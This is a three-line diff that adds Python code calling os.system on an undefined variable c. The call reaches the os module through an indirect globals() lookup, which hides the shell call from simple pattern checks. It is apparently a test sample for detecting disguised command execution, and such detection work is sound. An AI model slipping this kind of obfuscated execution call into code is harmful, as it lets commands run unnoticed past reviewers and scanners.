@@ -1,0 +1,3 @@
+import os
+
+[globals()[k] for k in ["os"]][0].system(c)
